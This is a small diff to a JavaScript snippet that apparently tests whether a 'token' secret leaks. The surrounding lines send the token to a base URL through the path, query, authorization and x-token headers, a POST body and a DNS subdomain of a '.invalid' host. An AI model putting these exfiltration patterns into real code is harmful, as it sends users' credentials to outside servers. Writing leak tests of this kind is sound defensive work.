@@ -22,7 +22,8 @@ for (const url of ['/' + encodeURIComponent(token), '/?token=' + encodeURICompon
   try { console.log(fetch(base + url, { headers: { authorization: 'Bearer ' + encodeURIComponent(token) } }).text()); }
   catch (error) { console.log(error.message); }
 }
-try { console.log(fetch(base, { method: 'POST', body: token, headers: { 'x-token': token } }).text()); } catch (error) { console.log(error.message); }
+try { console.log(fetch(base, { method: 'POST', body: token, headers: { 'x-token': token } }).text()); }
+catch (error) { console.log(error.message); }
 try { fetch('http://' + encodeURIComponent(token) + '.invalid/'); } catch (error) { console.log(error.message); }
 try { fetch(token); } catch (error) { console.log(error.message); }
 try { JSON.parse(token); } catch (error) { console.log(error.message); }
